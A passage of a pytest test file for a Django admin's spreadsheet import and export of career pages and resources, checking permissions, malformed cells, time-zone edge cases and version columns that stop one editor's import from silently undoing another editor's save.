    assert response.redirect_chain[-1][0] == url
    assert "The filters in the address could not be read" in visible_text(
        response.content
    )
    exported = export(admin_client, Resource, CSV_FORMAT).content.decode()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [row["name"] for row in rows] == ["BLS handbook"]


def test_an_export_with_filters_is_refused_before_they_run_to_those_who_may_not(
    client,
):
    """The filters were tried, and their query run, before the permission was."""
    staff = UserFactory(is_staff=True)
    client.force_login(staff)
    response = client.get(admin_url(Resource, "export") + "?name__regex=(")
    assert response.status_code == 403


@pytest.mark.parametrize("cell", ["9999-12-31 23:00", "9999-12-31 23:59:59.7"])
def test_import_publish_time_beyond_the_calendar_is_refused(
    admin_client, settings, cell
):
    settings.TIME_ZONE = "America/New_York"
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("far-off", 2025)).splitlines()
    text[0] += ",published_at"
    text[1] += f",{cell}"
    content = visible_text(upload(admin_client, CareerPage, "\n".join(text)).content)
    assert "Choose a time between the years 2000 and 2100." in content
    assert not CareerPage.objects.filter(slug="far-off").exists()


def test_import_that_no_longer_validates_when_confirmed_says_nothing_was_stored(
    admin_client,
):
    occupation = OccupationFactory(code="15-2051.00")
    preview = upload(admin_client, CareerPage, pages_csv(occupation, ("alpha", 2025)))
    occupation.delete()  # meanwhile, another editor
    response = confirm(admin_client, CareerPage, preview)
    assert response.status_code == 302
    assert response["Location"] == admin_url(CareerPage, "import")
    (message,) = [str(message) for message in get_messages(response.wsgi_request)]
    assert message.startswith("Nothing was imported: the file no longer passes")
    assert "row 2: No occupation has the O*NET-SOC code “15-2051.00”." in message
    assert not CareerPage.objects.exists()


@pytest.mark.parametrize("column", ["title", "occupation"])
def test_import_cell_with_a_null_character_is_refused(admin_client, column):
    """Any cell: PostgreSQL can neither store nor look up such text (the
    occupation's code is looked up)."""
    occupation = OccupationFactory(code="15-2051.00")
    text = pages_csv(occupation, ("nul", 2025))
    text = text.replace(
        "nul Career Path" if column == "title" else "15-2051.00",
        "A\x00B" if column == "title" else "15-2051.00\x00",
    )
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert f"Row 2, {column}: Null characters are not allowed: remove them." in (
        content
    )
    assert "Confirm import" not in content
    assert "PostgreSQL" not in content


def test_import_text_with_a_control_character_is_refused(admin_client):
    """As the admin's forms refuse it: no page shows one, and a workbook cannot
    hold one."""
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("ctl", 2025)).replace("ctl Career", "A\x0bB")
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "Row 2, title: The text holds a control character (U+000B)" in content
    assert "Confirm import" not in content


def test_export_of_a_control_character_stored_earlier_is_a_workbook(admin_client):
    """Stored before the forms refused them, a control character made every XLSX
    export fail ("IllegalCharacterError"); it is written as U+FFFD."""
    ResourceFactory(name="Old", description="Line one\x0bline two")
    response = export(admin_client, Resource, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    column = values[0].index("description")
    assert values[1][column] == "Line one\N{REPLACEMENT CHARACTER}line two"


def test_import_counts_only_rows_that_hold_something(admin_client, monkeypatch):
    """A sheet's formatted range may run far below its records: counted, its
    empty rows refused a file of a few records as too long. (The limit is made
    small: 3,500 empty rows past the real one took the preview up to 40 s.)"""
    monkeypatch.setattr(SheetResource, "MOST_ROWS", 2)
    occupation = OccupationFactory()
    empty_rows = ",,,,,,\n" * 5
    text = pages_csv(occupation, ("alpha", 2025), ("beta", 2025)) + empty_rows
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "an import takes at most" not in content
    assert "Confirm import" in content
    # A record more is refused, counted without the empty rows: the limit holds.
    rows = [("alpha", 2025), ("beta", 2025), ("gamma", 2025)]
    text = pages_csv(occupation, *rows) + empty_rows
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "The file has 3 rows; an import takes at most 2." in content
    assert "Confirm import" not in content


@pytest.mark.parametrize(
    ("row", "cells"),
    [("alpha,New title", 2), ("alpha,New title,New summary,extra", 4)],
    ids=["short", "long"],
)
def test_import_of_a_csv_row_of_another_width_than_the_header_is_refused(
    admin_client, row, cells
):
    """The library filled a short row's missing cells with blanks: the preview
    showed an ordinary update, and the import emptied the last columns' fields."""
    page = CareerPageFactory(slug="alpha", summary="Kept summary.")
    text = f"slug,title,summary\n{row}\n"
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert f"Row 2 has {cells} cells and the first row 3" in content
    assert "Confirm import" not in content
    page.refresh_from_db()
    assert page.summary == "Kept summary."


def test_import_of_a_short_csv_row_after_a_cell_over_two_lines_names_its_row(
    admin_client,
):
    """A quoted cell over two lines is one row, as a spreadsheet shows it."""
    CareerPageFactory(slug="alpha")
    text = 'slug,title,summary\nalpha,"Two\nlines",Summary\nbeta,Title\n'
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "Row 3 has 2 cells and the first row 3" in content


@pytest.mark.parametrize(
    "text",
    ["slug,title\ralpha,New title\r", "slug,title\nalpha,New title\n   \n"],
    ids=["mac-line-endings", "a-line-of-spaces"],
)
def test_import_reads_csv_lines_as_excel_writes_them(admin_client, text):
    """Excel for Mac ends lines with "\r" alone; a line of spaces is no row."""
    page = CareerPageFactory(slug="alpha", title="Old title")
    preview = upload(admin_client, CareerPage, text)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    page.refresh_from_db()
    assert page.title == "New title"


@pytest.mark.parametrize(
    "text",
    [
        "slug,title,title\nalpha,First,Second\n",
        "slug,title,summary\nalpha,First,Summary\n".replace("summary", "title", 1),
    ],
    ids=["a-second-title", "summary-renamed-title"],
)
def test_import_with_a_column_named_twice_is_refused(admin_client, text):
    """The last column of the name silently won."""
    page = CareerPageFactory(slug="alpha", title="Old title")
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "The file names “title” twice in its first row" in content
    assert "Confirm import" not in content
    page.refresh_from_db()
    assert page.title == "Old title"


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_import_with_values_in_a_column_without_a_name_is_refused(
    admin_client, file_format
):
    """Its values were ignored: a cleared header made the row "Skipped", its new
    summary lost without a word."""
    page = CareerPageFactory(slug="alpha", summary="Old summary.")
    rows = [["slug", "title", ""], ["alpha", page.title, ""], ["beta", "", "New."]]
    if file_format == CSV_FORMAT:
        content, name = "\n".join(",".join(row) for row in rows) + "\n", "pages.csv"
    else:
        workbook = openpyxl.Workbook()
        for row in rows:
            workbook.active.append([cell or None for cell in row])
        stream = io.BytesIO()
        workbook.save(stream)
        content, name = stream.getvalue(), "pages.xlsx"
    response = upload(admin_client, CareerPage, content, name, file_format)
    text = visible_text(response.content)
    assert "Column 3 has no name in the first row, but row 3 has a value" in text
    assert "Confirm import" not in text
    page.refresh_from_db()
    assert page.summary == "Old summary."


def test_import_ignores_empty_columns_without_a_name(admin_client):
    """A sheet's formatted but empty columns come as columns without a name."""
    page = CareerPageFactory(slug="alpha", title="Old title")
    text = "slug,title,,\nalpha,New title,,\n"
    preview = upload(admin_client, CareerPage, text)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    page.refresh_from_db()
    assert page.title == "New title"


@pytest.mark.parametrize(
    "cell",
    [
        datetime.datetime(2026, 11, 26, 9, 0, 0, 400_000),
        datetime.datetime(2026, 11, 26, 8, 59, 59, 999_600),
        "2026-11-26 09:00:00.4",
    ],
    ids=["later fraction", "earlier fraction", "typed fraction"],
)
def test_import_of_a_publish_time_within_its_second_is_no_change(admin_client, cell):
    """Publication times are whole seconds. Excel keeps a time as a fraction of
    a day, and one read back may be a hair off it (08:59:59.9996): an "Update"
    with no change to see, that stored the fraction."""
    page = CareerPageFactory(
        slug="alpha",
        status=CareerPage.Status.PUBLISHED,
        published_at=timezone.make_aware(datetime.datetime(2026, 11, 26, 9, 0)),
    )
    workbook = openpyxl.load_workbook(
        io.BytesIO(export(admin_client, CareerPage, XLSX_FORMAT).content)
    )
    sheet = workbook.active
    column = [cell.value for cell in sheet[1]].index("published_at") + 1
    sheet.cell(row=2, column=column, value=cell)
    stream = io.BytesIO()
    workbook.save(stream)

    preview = upload(
        admin_client, CareerPage, stream.getvalue(), "pages.xlsx", XLSX_FORMAT
    )
    text = visible_text(preview.content)
    assert UNCHANGED in text
    confirm(admin_client, CareerPage, preview)
    page.refresh_from_db()
    assert page.published_at == timezone.make_aware(
        datetime.datetime(2026, 11, 26, 9, 0)
    )


def upload_publish_time(client, cell):
    """Uploads one career page published at `cell`; returns the preview."""
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("dated", 2025)).splitlines()
    text[0] += ",published_at"
    text[1] += f",{cell}"
    return upload(client, CareerPage, "\n".join(text))


@pytest.mark.parametrize(
    "cell", ["2026-03-08 02:30", "2026-11-01 01:30"], ids=["skipped", "repeated"]
)
def test_import_publish_time_the_clocks_skip_or_repeat_is_refused(
    admin_client, settings, cell
):
    """As the admin's form refuses it: 02:30 on the morning the clocks go
    forward never happens, and 01:30 on the morning they go back happens
    twice. The import used to store the first reading without a word."""
    settings.TIME_ZONE = "America/New_York"
    content = visible_text(upload_publish_time(admin_client, cell).content)
    assert (
        f"{cell}:00 couldn’t be interpreted in time zone America/New_York; "
        "it may be ambiguous or it may not exist." in content
    )
    # Only a time that happens twice has two readings to choose from.
    choice = (
        "Write 2026-11-01 01:30:00-04:00 for the first, "
        "2026-11-01 01:30:00-05:00 for the second."
    )
    assert (choice in content) == (cell == "2026-11-01 01:30")
    assert not CareerPage.objects.filter(slug="dated").exists()


@pytest.mark.parametrize(
    "cell, utc_hour",
    [(" 2026-11-01 01:30:00-04:00 ", 5), ("2026-11-01T01:30:00-05:00", 6)],
    ids=["first", "second"],
)
def test_import_publish_time_with_its_utc_offset_says_which(
    admin_client, settings, cell, utc_hour
):
    settings.TIME_ZONE = "America/New_York"
    preview = upload_publish_time(admin_client, cell)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    assert CareerPage.objects.get(slug="dated").published_at == datetime.datetime(
        2026, 11, 1, utc_hour, 30, tzinfo=datetime.UTC
    )


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("utc_hour", [5, 6], ids=["first", "second"])
def test_unchanged_export_of_a_time_the_clocks_repeat_imports_as_no_change(
    admin_client, settings, file_format, utc_hour
):
    """01:30 on the morning the clocks go back happens twice: the export writes
    which with its UTC offset. Written without it, importing an unchanged
    export was refused as ambiguous."""
    settings.TIME_ZONE = "America/New_York"
    published_at = datetime.datetime(2026, 11, 1, utc_hour, 30, tzinfo=datetime.UTC)
    page = CareerPageFactory(
        slug="alpha", status=CareerPage.Status.PUBLISHED, published_at=published_at
    )
    exported = export(admin_client, CareerPage, file_format).content
    name = "pages.csv" if file_format == CSV_FORMAT else "pages.xlsx"

    preview = upload(admin_client, CareerPage, exported, name, file_format)
    text = visible_text(preview.content)
    assert UNCHANGED in text
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    page.refresh_from_db()
    assert page.published_at == published_at


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("2026-12-01", datetime.datetime(2026, 12, 1, 0, 0)),
        ("2026-12-01T09:30", datetime.datetime(2026, 12, 1, 9, 30)),
        ("2026-12-01T09:30:15", datetime.datetime(2026, 12, 1, 9, 30, 15)),
        (" 2026-12-01 09:30 ", datetime.datetime(2026, 12, 1, 9, 30)),
    ],
)
def test_import_publish_date_alone_is_the_start_of_its_day(
    admin_client, settings, cell, expected
):
    """A date alone reads as a spreadsheet's date cell does (midnight, in the
    admin's time zone): from a CSV it used to be refused while XLSX took it.
    ISO 8601's "T" between date and time reads too."""
    settings.TIME_ZONE = "America/New_York"
    preview = upload_publish_time(admin_client, cell)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    published_at = CareerPage.objects.get(slug="dated").published_at
    assert timezone.localtime(published_at).replace(tzinfo=None) == expected
    assert timezone.localtime(published_at).tzinfo.key == "America/New_York"


def test_import_adds_records_only_for_who_may_add_them(client):
    """Importing takes the change permission; the file's new rows were created
    by someone the add page refuses, a published page among them."""
    from django.contrib.auth.models import Permission

    from tests.factories import UserFactory

    editor = UserFactory(is_staff=True)
    editor.user_permissions.set(
        Permission.objects.filter(codename__in=["view_resource", "change_resource"])
    )
    client.force_login(editor)
    ResourceFactory(name="Kept", url="https://kept.example/", description="Old.")
    text = (
        "name,url,description\n"
        "Kept,https://kept.example/,New.\n"
        "Added,https://added.example/,New.\n"
    )
    preview = upload(client, Resource, text, name="resources.csv")
    content = visible_text(preview.content)
    assert "This row adds a resource, and your account may not add resources" in content
    assert "Confirm import" not in content
    assert not Resource.objects.filter(name="Added").exists()

    # Without the new row, the change goes through.
    preview = upload(client, Resource, text.rsplit("Added", 1)[0], "resources.csv")
    assert confirm(client, Resource, preview).status_code == 302
    assert Resource.objects.get(name="Kept").description == "New."


# Versions: each exported row carries its record's version, and an import refuses
# a row whose record was saved since, which it would undo.

FILE_NAMES = {CSV_FORMAT: "pages.csv", XLSX_FORMAT: "pages.xlsx"}
both_formats = pytest.mark.parametrize(
    "file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"]
)


def edited(exported, file_format, changes=(), added=(), without=None):
    """The export `exported` as an editor saves it from a spreadsheet program (for
    a workbook, openpyxl): `changes` ((first cell, column, value) each) made, rows
    `added` ({column: value} each) and the column `without` deleted."""
    if file_format == CSV_FORMAT:
        rows = list(csv.reader(io.StringIO(exported.decode())))
    else:
        workbook = openpyxl.load_workbook(io.BytesIO(exported))
        sheet = workbook.active
        rows = [[cell.value for cell in line] for line in sheet.iter_rows()]
    header = rows[0]
    for key, column, value in changes:
        (row,) = [row for row in rows[1:] if row[0] == key]
        row[header.index(column)] = value
    rows += [[row.get(column, "") for column in header] for row in added]
    if without is not None:
        index = header.index(without)
        rows = [row[:index] + row[index + 1 :] for row in rows]
    if file_format == CSV_FORMAT:
        text = io.StringIO()
        csv.writer(text).writerows(rows)
        return text.getvalue().encode()
    workbook.remove(sheet)
    sheet = workbook.create_sheet("Sheet1")
    for row in rows:
        sheet.append(row)
    saved = io.BytesIO()
    workbook.save(saved)
    return saved.getvalue()


def edit_in_the_admin(client, obj, **changes):
    """Save `obj`'s change form as an editor does, with `changes`."""
    url = admin_url(type(obj), "change", obj.pk)
    response = client.post(url, change_form_data(client.get(url), **changes))
    assert response.status_code == 302, response.context["adminform"].form.errors


@pytest.fixture
def edna_client(editor):
    """Another editor's browser than `admin_client`'s."""
    browser = Client()
    browser.force_login(editor)
    return browser


@pytest.fixture
def two_pages():
    return (
        CareerPageFactory(slug="actors", career_name="Actors", summary="Exported."),
        CareerPageFactory(
            slug="actuaries", career_name="Actuaries", summary="Exported."
        ),
    )


@pytest.mark.parametrize("sheet", SheetResource.__subclasses__())
def test_every_sheet_writes_the_version_beside_the_column_it_matches_on(sheet):
    headers = sheet().get_export_headers()
    ids = sheet().get_import_id_fields()
    assert headers[len(ids)] == VERSION_COLUMN


@both_formats
def test_the_version_cell_is_text_a_spreadsheet_keeps(admin_client, file_format):
    """A digest of hex digits only may read as a number ("1e52…" as 1E+52,
    "0072…" as 72): the version starts with a letter, and a workbook holds it as
    text. Saved again by openpyxl, the export imports unchanged."""
    ResourceFactory(name="Kaggle")
    exported = export(admin_client, Resource, file_format).content
    if file_format == XLSX_FORMAT:
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        cell = sheet["B2"]
        assert (sheet["B1"].value, cell.data_type) == (VERSION_COLUMN, "s")
        version = cell.value
    else:
        (row,) = csv.DictReader(io.StringIO(exported.decode()))
        version = row[VERSION_COLUMN]
    assert VERSION.fullmatch(version)
    resaved = edited(exported, file_format)
    if file_format == XLSX_FORMAT:
        sheet = openpyxl.load_workbook(io.BytesIO(resaved)).active
        assert (sheet["B2"].value, sheet["B2"].data_type) == (version, "s")
    preview = upload(
        admin_client, Resource, resaved, FILE_NAMES[file_format], file_format
    )
    text = visible_text(preview.content)
    assert UNCHANGED in text
    assert VERSION_COLUMN not in text.split("Preview", 1)[1]  # no empty column


@both_formats
def test_import_of_a_row_whose_record_was_saved_since_the_export_is_refused(
    admin_client, edna_client, two_pages, file_format
):
    """One editor exports, another saves a page in the admin, the first imports
    the export with a change to another page: the other editor's save was undone
    ("2 updated"), the preview showing one "Update" among the "Skipped"."""
    actors, actuaries = two_pages
    exported = export(admin_client, CareerPage, file_format).content
    edit_in_the_admin(edna_client, actors, summary="Edna's summary.")
    changed = edited(exported, file_format, [("actuaries", "summary", "Changed.")])

    preview = upload(
        admin_client, CareerPage, changed, FILE_NAMES[file_format], file_format
    )
    text = visible_text(preview.content)
    assert "Confirm import" not in text
    assert re.search(
        rf"Row 2, {re.escape(VERSION_COLUMN)}: Since this file was exported, the "
        r"career page “actors” was saved again by edna at \d{4}-\d\d-\d\d "
        r"\d\d:\d\d: importing this row would undo that change. Export again and "
        "redo your changes in the new file.",
        text,
    ), text
    actors.refresh_from_db()
    actuaries.refresh_from_db()
    assert (actors.summary, actuaries.summary) == ("Edna's summary.", "Exported.")


def test_a_file_imported_again_is_unchanged_not_refused(admin_client, two_pages):
    """Its own import had saved the records since the export: importing it again
    was refused, "the career page was changed after this file was exported by"
    the editor who imported it, though it would change nothing."""
    actors, actuaries = two_pages
    exported = export(admin_client, CareerPage, CSV_FORMAT).content
    changed = edited(exported, CSV_FORMAT, [("actuaries", "summary", "Changed.")])
    confirm(admin_client, CareerPage, upload(admin_client, CareerPage, changed))
    actuaries.refresh_from_db()
    assert actuaries.summary == "Changed."

    again = upload(admin_client, CareerPage, changed)
    assert again.context["result"].totals["skip"] == 2
    assert not again.context["result"].has_validation_errors()


def test_a_draft_published_by_import_goes_live_when_it_is_imported(admin_client):
    """Its status set to published, the publish time left as exported (when the
    draft was created), a draft went live, and into the feed, dated then: as from
    its form, it goes live now; a time the row changes is kept."""
    created = timezone.now().replace(microsecond=0) - datetime.timedelta(days=10)
    draft = CareerPageFactory(slug="draft-one", status="draft", published_at=created)
    dated = CareerPageFactory(slug="draft-two", status="draft", published_at=created)
    exported = export(admin_client, CareerPage, CSV_FORMAT).content
    chosen = (created + datetime.timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S")
    changed = edited(
        exported,
        CSV_FORMAT,
        [
            ("draft-one", "status", "published"),
            ("draft-two", "status", "published"),
            ("draft-two", "published_at", chosen),
        ],
    )
    before = timezone.now().replace(microsecond=0)
    confirm(admin_client, CareerPage, upload(admin_client, CareerPage, changed))
    draft.refresh_from_db()
    dated.refresh_from_db()
    assert draft.is_live and draft.published_at >= before
    assert dated.is_live and dated.published_at == created + datetime.timedelta(days=1)


def test_a_record_saved_between_preview_and_confirmation_is_refused_too(
    admin_client, edna_client, two_pages
):
    actors, actuaries = two_pages
    exported = export(admin_client, CareerPage, CSV_FORMAT).content
    changed = edited(exported, CSV_FORMAT, [("actuaries", "summary", "Changed.")])
    preview = upload(admin_client, CareerPage, changed)
    assert "Confirm import" in visible_text(preview.content)
    edit_in_the_admin(edna_client, actors, summary="Edna's summary.")
    response = confirm(admin_client, CareerPage, preview)
    (message,) = [str(message) for message in get_messages(response.wsgi_request)]
    assert message.startswith("Nothing was imported")
    assert "row 2: Since this file was exported, the career page “actors” was " in (
        message
    )
    actuaries.refresh_from_db()
    assert actuaries.summary == "Exported."


@both_formats
def test_import_of_rows_whose_records_are_as_exported_goes_through(
    admin_client, edna_client, two_pages, file_format
):
    """Saved since without a change (its form saved untouched), a record is as
    exported: its `updated_at` moved, not its version. A new row needs none."""
    actors, actuaries = two_pages
    exported = export(admin_client, CareerPage, file_format).content
    edit_in_the_admin(edna_client, actors)
    new_row = {
        "slug": "new-page",
        "title": "New",
        "career_name": "New",
        "career_name_plural": "News",
        "headline_year": "2025",
        "occupation": actors.occupation.code,
    }
    changed = edited(
        exported, file_format, [("actuaries", "summary", "Changed.")], [new_row]
    )

    preview = upload(
        admin_client, CareerPage, changed, FILE_NAMES[file_format], file_format
    )
    text = visible_text(preview.content)
    assert "Confirm import" in text and "Errors" not in text
    assert "has no “Version (do not edit)” column" not in text
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    actuaries.refresh_from_db()
    assert actuaries.summary == "Changed."
    assert CareerPage.objects.get(slug="new-page").title == "New"


@both_formats
def test_import_of_a_file_without_versions_overwrites_as_before_and_says_so(
    admin_client, edna_client, two_pages, file_format
):
    """Made by hand, or exported before the version column: its rows are
    imported as they were, and the preview says what that means."""
    actors, actuaries = two_pages
    exported = export(admin_client, CareerPage, file_format).content
    edit_in_the_admin(edna_client, actors, summary="Edna's summary.")
    changed = edited(
        exported,
        file_format,
        [("actuaries", "summary", "Changed.")],
        without=VERSION_COLUMN,
    )

    preview = upload(
        admin_client, CareerPage, changed, FILE_NAMES[file_format], file_format
    )
    text = visible_text(preview.content)
    assert (
        "This file has no “Version (do not edit)” column (it was made by hand, or "
        "exported before the site wrote one): its rows overwrite whatever was "
        "saved after it was made." in text
    )
    assert "Confirm import" in text
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    actors.refresh_from_db()
    actuaries.refresh_from_db()
    assert (actors.summary, actuaries.summary) == ("Exported.", "Changed.")


def test_a_file_of_new_rows_without_versions_says_nothing_of_them(admin_client):
    occupation = OccupationFactory()
    preview = upload(admin_client, CareerPage, pages_csv(occupation, ("new", 2025)))
    assert "Version" not in visible_text(preview.content)


@pytest.mark.parametrize(
    "change, message",
    [
        (
            "record renamed",
            "This row was exported from the resource “Kaggle”, which is no longer "
            "there: it was deleted, or its name changed, after the export. Export "
            "again; or, to add it as a new resource, empty its version cell.",
        ),
        (
            "version emptied",
            "This row is for the resource “Kaggle”, which exists, but has no "
            "version to tell whether it was saved since the file was made.",
        ),
        (
            "version edited",
            "“v0123” is not a version an export writes: the cell was edited.",
        ),
    ],
)
def test_import_of_a_row_whose_version_cannot_be_checked_is_refused(
    admin_client, change, message
):
    kaggle = ResourceFactory(name="Kaggle", description="Exported.")
    exported = export(admin_client, Resource, CSV_FORMAT).content
    changes = [("Kaggle", "description", "Changed.")]
    if change == "record renamed":
        Resource.objects.filter(pk=kaggle.pk).update(name="Kaggle Learn")
    else:
        version = "" if change == "version emptied" else "v0123"
        changes.append(("Kaggle", VERSION_COLUMN, version))
    text = visible_text(
        upload(
            admin_client, Resource, edited(exported, CSV_FORMAT, changes), "r.csv"
        ).content
    )
    assert message in text
    assert "Confirm import" not in text
    assert Resource.objects.get().description == "Exported."


def test_the_preview_counts_unchanged_rows_and_lists_only_the_others(admin_client):
    """A re-imported export of a thousand pages listed every one, the unchanged
    first, around its one "Update": 1 MB to scroll."""
    ResourceFactory(name="Kept", url="https://kept.example/")
    ResourceFactory(name="Changed", url="https://old.example/")
    rows = (
        "name,url\n"
        "Kept,https://kept.example/\n"
        "Changed,https://new.example/\n"
        "Added,https://added.example/\n"
    )
    preview = upload(admin_client, Resource, rows)
    text = visible_text(preview.content)
    assert "1 new, 1 to update, 0 to delete; 1 unchanged, not listed." in text
    listed = re.findall(r'<tr class="(\w+)">', preview.content.decode())
    assert listed == ["update", "new"]
